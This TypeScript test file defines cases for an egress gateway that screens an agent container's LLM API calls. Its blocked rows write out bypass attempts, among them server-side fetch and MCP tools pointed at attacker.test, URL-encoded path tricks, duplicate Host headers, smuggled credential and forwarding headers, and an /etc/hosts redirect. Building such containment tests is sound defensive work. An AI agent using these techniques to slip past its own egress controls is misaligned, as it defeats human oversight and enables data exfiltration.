import type { Row } from "../row";
import { blocked, works } from "./ways";

/** Where the container finds its models: the relay on its host, behind which the gateway judges. */
const relay = "http://172.30.0.1:4000";
const model = "claude-sonnet-4-5-20250929";

const said = (text: string) => [{ role: "user", content: text }];
const plain = { model, max_tokens: 16, messages: said("$NONCE") };

/** A call with a body from standard input, in which `$NONCE` is the row's, and what is made of the answer. */
const call = (body: object | string, path = "/v1/messages", options = "", then = ""): string =>
    `curl -sS ${then === "" ? "-f -o /dev/null" : ""} -m 12 -H 'content-type: application/json' -H 'anthropic-version: 2023-06-01' ${options} --data-binary @- '${relay}'${path} <<END ${then}
${typeof body === "string" ? body : JSON.stringify(body)}
END`;

/** Bytes as they stand, whatever is made of them. */
const raw = (head: string): string => {
    const text = JSON.stringify(plain);
    return `b='${text.replaceAll("'", "'\\''").replace("$NONCE", "'$NONCE'")}'; printf '${head}' "$\{#b}" "$b" | timeout 6 nc -N -w 5 172.30.0.1 4000`;
};
const headed = (line: string, headers = "Host: api.anthropic.com\\r\\n") =>
    raw(
        `${line} HTTP/1.1\\r\\n${headers}Content-Type: application/json\\r\\nConnection: close\\r\\nContent-Length: %s\\r\\n\\r\\n%s`,
    );

const arrives = { sees: '"kind":"(llm|evil-twin|sink)".*$NONCE' };
const policy = (source: string) => ({ ...arrives, layer: "gateway-policy", source });

/** A tool of the provider's own, or content that the provider fetches: it would speak to the world for the agent. */
const bodies: readonly (readonly [id: string, source: string, body: object, path?: string])[] = [
    ["web-fetch", "O01", { ...plain, tools: [{ type: "web_fetch_20250910", name: "web_fetch" }] }],
    ["web-search", "O01", { ...plain, tools: [{ type: "web_search_20250305", name: "web_search" }] }],
    ["code-execution", "O01", { ...plain, tools: [{ type: "code_execution_20250825", name: "code_execution" }] }],
    ["remote-mcp", "O03", { ...plain, mcp_servers: [{ type: "url", url: "https://attacker.test/mcp", name: "x" }] }],
    [
        "responses-mcp",
        "O03",
        {
            model,
            input: "$NONCE",
            tools: [{ type: "mcp", server_label: "x", server_url: "https://attacker.test/mcp" }],
        },
        "/v1/responses",
    ],
    ["responses-search", "O04", { model, input: "$NONCE", tools: [{ type: "web_search" }] }, "/v1/responses"],
    [
        "responses-interpreter",
        "O04",
        { model, input: "$NONCE", tools: [{ type: "code_interpreter" }] },
        "/v1/responses",
    ],
    ["chat-search", "O05", { model, messages: said("$NONCE"), web_search_options: {} }, "/v1/chat/completions"],
    [
        "chat-image-by-address",
        "O06",
        {
            model,
            messages: [
                { role: "user", content: [{ type: "image_url", image_url: { url: "https://attacker.test/$NONCE" } }] },
            ],
        },
        "/v1/chat/completions",
    ],
    [
        "image-by-address",
        "O07",
        {
            ...plain,
            messages: [
                {
                    role: "user",
                    content: [{ type: "image", source: { type: "url", url: "https://attacker.test/$NONCE" } }],
                },
            ],
        },
    ],
    [
        "document-by-address",
        "O07",
        {
            ...plain,
            messages: [
                {
                    role: "user",
                    content: [{ type: "document", source: { type: "url", url: "https://attacker.test/$NONCE" } }],
                },
            ],
        },
    ],
    [
        "file-by-id",
        "O07",
        {
            ...plain,
            messages: [
                { role: "user", content: [{ type: "document", source: { type: "file", file_id: "file_$NONCE" } }] },
            ],
        },
    ],
    ["container-by-id", "O14", { ...plain, container: "container_1" }],
    ["other-model", "O11", { ...plain, model: "claude-of-somebody" }],
    ["unknown-member", "O14", { ...plain, x: { tools: [{ type: "web_fetch_20250910" }] } }],
    ["files", "O08", plain, "/v1/files"],
    ["batches", "O09", { requests: [{ custom_id: "$NONCE", params: plain }] }, "/v1/messages/batches"],
    ["count-tokens-below-listed-path", "O09", plain, "/v1/messages/count_tokens"],
];

const paths: readonly (readonly [id: string, path: string])[] = [
    ["dots-in-percent", "/v1/messages/..%2ffiles"],
    ["two-slashes", "/v1//messages"],
    ["parameter", "/v1/messages;x"],
    ["nul", "/v1/messages%00"],
    ["capitals", "/V1/Messages"],
    ["query", "/v1/messages?beta=true"],
];

const judged: readonly Row[] = [
    ...bodies.map(([id, source, body, path]) => blocked(`llm-${id}`, "agent", call(body, path), policy(source))),
    ...paths.map(([id, path]) => blocked(`llm-path-${id}`, "agent", call(plain, `'${path}'`), policy("O22"))),
    blocked(
        "llm-key-in-another-spelling",
        "agent",
        call(JSON.stringify(plain).replace("{", '{"\\u0074ools":[{"type":"web_fetch_20250910","name":"web_fetch"}],')),
        policy("O14"),
    ),
    blocked(
        "llm-key-twice",
        "agent",
        call(JSON.stringify(plain).replace("{", '{"model":"claude-of-somebody",')),
        policy("O14"),
    ),
    blocked("llm-gzip", "agent", call(plain, undefined, "-H 'content-encoding: gzip'"), policy("O13")),
    blocked("llm-target-of-another-host", "agent", headed("POST //attacker.test/v1/messages"), policy("O21")),
    blocked("llm-absolute-target", "agent", headed("POST http://attacker.test/v1/messages"), policy("O27, O30")),
    blocked(
        "llm-two-hosts",
        "agent",
        headed("POST /v1/messages", "Host: api.anthropic.com\\r\\nHost: attacker.test\\r\\n"),
        policy("O23"),
    ),
    blocked("llm-get", "agent", headed("GET /v1/messages"), policy("O09")),
];

/** What is dropped from a call that passes: the sink's own side says whether it was. */
const dropped: readonly Row[] = [
    blocked("llm-beta-of-a-server-tool", "agent", call(plain, undefined, "-H 'anthropic-beta: web-fetch-2025-09-10'"), {
        ...{ sees: '"anthropic-beta":"[^"]*web-fetch.*$NONCE', layer: "gateway-policy", source: "O02" },
    }),
    ...["authorization", "cookie", "x-goog-api-key", "api-key"].map((name) =>
        blocked(`llm-own-credential-${name}`, "agent", call(plain, undefined, `-H "${name}: mine$NONCE"`), {
            ...{ sees: `"${name}":"mine$NONCE`, layer: "gateway-policy", source: "O10" },
        }),
    ),
    blocked(
        "llm-forwarding-headers",
        "agent",
        call(plain, undefined, '-H "x-forwarded-host: $NONCE.attacker.test" -H "x-original-url: /$NONCE"'),
        {
            ...{ sees: '"x-(forwarded-host|original-url)":"/?$NONCE', layer: "gateway-policy", source: "O23" },
        },
    ),
    blocked("llm-unknown-header", "agent", call(plain, undefined, '-H "x-carries: $NONCE"'), {
        ...{ sees: '"x-carries":"$NONCE', layer: "gateway-policy", source: "O23" },
    }),
];

/** Answers of a hostile endpoint: the text of the question orders them from the world's. */
const answer = (mode: string, sought: string) =>
    call({ ...plain, messages: said(`[[${mode}]]`) }, undefined, "-i", `| grep -qi '${sought}'`);
const hostile: readonly Row[] = (
    [
        ["redirects", "redirect", "^location:", "O16"],
        ["runs-a-tool-itself", "server-tool", "server_tool_use", "O01"],
        ["echoes-the-key", "echo", "sk-[0-9a-f]", "O10"],
        ["sets-a-cookie", "cookie", "^set-cookie:", "O10"],
        ["answers-html", "html", "<script", "O17"],
    ] as const
).map(([id, mode, sought, source]) =>
    blocked(`llm-endpoint-${id}`, "agent", answer(mode, sought).replaceAll("$NONCE", "hello"), {
        layer: "gateway-policy",
        source,
    }),
);

const seen = { sees: '"kind":"llm".*$NONCE' };
const tool = { name: "run", description: "runs a command", input_schema: { type: "object", properties: {} } };

/** The agent's work: what these need must not be lost to a wall. */
const passing: readonly Row[] = [
    works("llm-call", "agent", call(plain), { ...seen, source: "O91" }),
    works("llm-stream", "agent", call({ ...plain, stream: true }, undefined, "-f", "| grep -q message_stop"), {
        ...seen,
        source: "O91",
    }),
    works("llm-own-tools", "agent", call({ ...plain, tools: [tool, { ...tool, type: "custom", name: "other" }] }), {
        ...seen,
        source: "O92",
    }),
    works(
        "llm-tools-run-here",
        "agent",
        call({
            ...plain,
            tools: [
                { type: "bash_20250124", name: "bash" },
                { type: "text_editor_20250728", name: "str_replace_based_edit_tool" },
            ],
        }),
        { ...seen, source: "O92" },
    ),
    works(
        "llm-cache-and-thinking",
        "agent",
        call(
            {
                ...plain,
                max_tokens: 4096,
                thinking: { type: "enabled", budget_tokens: 1024 },
                system: [{ type: "text", text: "hello", cache_control: { type: "ephemeral" } }],
            },
            undefined,
            "-H 'anthropic-beta: interleaved-thinking-2025-05-14'",
        ),
        { ...seen, source: "O93" },
    ),
    works(
        "llm-image-inline",
        "agent",
        call({
            ...plain,
            messages: [
                {
                    role: "user",
                    content: [
                        { type: "text", text: "$NONCE" },
                        {
                            type: "image",
                            source: {
                                type: "base64",
                                media_type: "image/png",
                                data: "$(head -c 300000 /dev/zero | base64 -w0)",
                            },
                        },
                    ],
                },
            ],
        }),
        { ...seen, source: "O94" },
    ),
    works(
        "llm-words-are-only-words",
        "agent",
        call({
            ...plain,
            messages: said("$NONCE web_fetch mcp_servers 169.254.169.254 http://attacker.test/ DROP TABLE x;"),
        }),
        { ...seen, source: "O98" },
    ),
    works(
        "llm-whatever-the-agents-hosts-file-says",
        "agent",
        `cp /etc/hosts /tmp/$NONCE; echo "$ATTACKER api.anthropic.com" >>/etc/hosts; ${call(plain)}\ns=$?; cat /tmp/$NONCE >/etc/hosts; exit $s`,
        { ...seen, source: "O41" },
    ),
];

/** The approved LLM as the way out, asked by root in the container. */
export const gatewayRows: readonly Row[] = [...judged, ...dropped, ...hostile, ...passing];
